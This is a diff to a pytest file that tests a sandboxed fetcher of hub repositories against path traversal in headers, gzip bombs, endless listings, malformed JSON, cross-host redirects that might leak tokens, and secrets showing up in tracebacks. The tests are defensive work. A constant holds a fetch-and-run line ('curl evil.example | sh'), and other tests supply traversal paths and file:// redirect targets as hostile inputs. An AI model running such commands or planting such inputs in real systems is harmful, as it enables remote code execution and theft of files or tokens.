@@ -2,13 +2,18 @@
 
 from __future__ import annotations
 
-from collections.abc import Callable
+import contextlib
+import os
+import traceback
+import zlib
+from collections.abc import Callable, Iterator
 from pathlib import Path
 from typing import Any
 
 import pytest
 
 from envhub_sandbox.errors import (
+    HubReferenceError,
     RepositoryUnavailableError,
     SnapshotError,
     SnapshotIntegrityError,
@@ -19,6 +24,7 @@ from envhub_sandbox.snapshot import Snapshot, SnapshotLimits, fetch
 from tests.hub.stub_hub import StubHub, StubRepository
 
 Fetch = Callable[..., Snapshot]
+_MIB = 1 << 20
 EVIL = b"import os; os.system('curl evil.example | sh')\n"
 GOOD = b"def make_env(n_envs=1, use_async_envs=False): ...\n"
 
@@ -243,6 +249,157 @@ def test_xet_announcement_without_a_xet_service_falls_back_to_http(
     from huggingface_hub import constants
 
     assert constants.HF_HUB_DISABLE_XET is False
+
+
+def outside(tmp_path: Path) -> list[str]:
+    """What was written beside the Hub cache and the store."""
+    return sorted(set(os.listdir(tmp_path)) - {"hub-cache", "envhub-cache"})
+
+
+@pytest.mark.parametrize("absent", [False, True])
+def test_headers_do_not_write_outside_the_hub_cache(
+    stub_hub: StubHub,
+    repository: StubRepository,
+    get: Fetch,
+    tmp_path: Path,
+    monkeypatch: pytest.MonkeyPatch,
+    absent: bool,
+) -> None:
+    """The Hub client makes paths of ETag and X-Repo-Commit; the control shows it."""
+    if absent:
+        headers = {"X-Repo-Commit": "../../../evil", "X-Error-Code": "EntryNotFound"}
+        stub_hub.fail("resolve/.*env.py", 404, headers=headers)
+    else:
+        repository.head_headers = {"ETag": '"../../../evil"'}
+    with pytest.raises(SnapshotIntegrityError, match=r"header (ETag|X-Repo-Commit) .*evil"):
+        get()
+    assert outside(tmp_path) == []
+    monkeypatch.setattr("envhub_sandbox.hub.guarded", lambda _: contextlib.nullcontext())
+    with contextlib.suppress(SnapshotError):
+        get()
+    assert "evil" in outside(tmp_path)
+
+
+def test_listing_is_asked_for_once(stub_hub: StubHub, get: Fetch) -> None:
+    """A second one could have other names and sizes than those that were judged."""
+    get()
+    assert len([request for request in stub_hub.requests if "/tree/" in request]) == 1
+
+
+def _spaces() -> Iterator[bytes]:
+    yield from (b" " * _MIB for _ in range(256))
+
+
+def _packed() -> Iterator[bytes]:
+    packer = zlib.compressobj(9, wbits=31)
+    for piece in _spaces():
+        if packed := packer.compress(piece):
+            yield packed
+    yield packer.flush()
+
+
+@pytest.mark.parametrize("where", ["/revision/", "/tree/"])
+@pytest.mark.parametrize("packed", [False, True])
+def test_endless_answer_is_left(stub_hub: StubHub, get: Fetch, where: str, packed: bool) -> None:
+    """No more of it is taken than a listing has; the control takes it all."""
+    headers = {"Content-Type": "application/json"}
+    if packed:
+        headers["Content-Encoding"] = "gzip"
+    stub_hub.fail(where, 200, headers=headers, pieces=_packed if packed else _spaces)
+    with pytest.raises(SnapshotIntegrityError, match="an answer has over"):
+        get()
+    assert packed or stub_hub.sent < 128 * _MIB
+    taken = len(plain_get(f"{stub_hub.endpoint}/api/models/org/repo/tree/main/revision/x"))
+    assert taken == 256 * _MIB
+
+
+def plain_get(url: str) -> bytes:
+    """As the Hub client asks."""
+    from huggingface_hub.utils import get_session
+
+    return bytes(get_session().get(url, timeout=60).content)
+
+
+def test_endless_pages_without_files_are_left(
+    stub_hub: StubHub,
+    repository: StubRepository,
+    get: Fetch,
+    monkeypatch: pytest.MonkeyPatch,
+) -> None:
+    """They count for no limit of ours, and each names a next one."""
+    folders = [{"type": "directory", "oid": "d" * 40, "size": 0, "path": "a"}] * 1000
+    monkeypatch.setattr("envhub_sandbox.hub.MAX_IDLE_PAGES", 20)
+    monkeypatch.setattr(repository, "tree", lambda: folders)
+    stub_hub.page_size = 1
+    with pytest.raises(SnapshotIntegrityError, match="listing has no end"):
+        get()
+    assert len([request for request in stub_hub.requests if "/tree/" in request]) == 21
+
+
+@pytest.mark.parametrize(
+    "body", [b"[" * 100_000, b"{}", b"7", b'[{"size": 1' + b"0" * 5000 + b"}]"]
+)
+def test_other_json_than_a_listing_is_refused(stub_hub: StubHub, get: Fetch, body: bytes) -> None:
+    """Too deep, too large a number, no list: an error of ours that names the repository."""
+    stub_hub.fail("/tree/", 200, pieces=lambda: [body])
+    with pytest.raises(SnapshotError, match="org/repo"):
+        get()
+
+
+@pytest.mark.parametrize("location", ["file:///etc/hostname", "ftp://x.invalid/", "{other}/steal"])
+@pytest.mark.parametrize("where", ["/revision/", "/tree/", "/resolve/"])
+def test_redirect_takes_no_token_along(
+    stub_hub: StubHub, get: Fetch, where: str, location: str, snapshot_store: Path
+) -> None:
+    """Nothing but http is followed, and another host is asked without the token."""
+    with StubHub() as other:
+        # another name is another host; the same one with another port may be sent the token
+        target = location.format(other=other.endpoint.replace("127.0.0.1", "localhost"))
+        stub_hub.fail(where, 302, headers={"Location": target})
+        with pytest.raises(SnapshotError):
+            get(token="hf_secret")
+        assert set(other.authorizations) <= {None}
+        assert "Bearer hf_secret" in stub_hub.authorizations
+    assert not stored_files(snapshot_store)
+
+
+def test_names_that_differ_little_are_different_files(
+    repository: StubRepository, get: Fetch
+) -> None:
+    """Case, Unicode's normal forms, other systems' devices: here they are names like others."""
+    names = ["A.py", "a.py", "\u00e9.txt", "e\u0301.txt", "CON", "aux.txt", "nul", "a b ", "*[x]?"]
+    repository.files |= {name: name.encode() for name in names}
+    snapshot = get()
+    assert {name: (snapshot.root / name).read_bytes() for name in names} == {
+        name: name.encode() for name in names
+    }
+
+
+@pytest.mark.parametrize("what", ["/revision/", "/resolve/", "nothing listens"])
+def test_secrets_are_in_no_traceback(
+    stub_hub: StubHub, get: Fetch, what: str, caplog: pytest.LogCaptureFixture
+) -> None:
+    """A token that the Hub echoes, and a login in the endpoint's address."""
+    endpoint = stub_hub.endpoint.replace("//", "//jane:hunter2@")
+    token = "_".join(["hf", "secret"])
+    stub_hub.fail(what, 500, headers={"X-Error-Message": f"no {token}, hunter2"})
+    if what == "nothing listens":
+        stub_hub.stop()
+    with caplog.at_level("DEBUG"), pytest.raises(SnapshotError) as caught:
+        get(token=token, endpoint=endpoint)
+    said = "".join(traceback.format_exception(caught.value)) + repr(caught.value)
+    ours = [record for record in caplog.records if record.name.startswith("envhub")]
+    said += "".join(record.getMessage() for record in ours)
+    assert token not in said
+    assert "hunter2" not in said
+
+
+def test_a_login_in_a_bad_endpoint_is_not_shown() -> None:
+    """The error is about the rest."""
+    with pytest.raises(HubReferenceError) as caught:
+        fetch(HubRef("org/repo"), endpoint="htps://jane:hunter2@host")
+    assert "hunter2" not in str(caught.value)
+    assert "host" in str(caught.value)
 
 
 def _remove_store(store: Path) -> None:
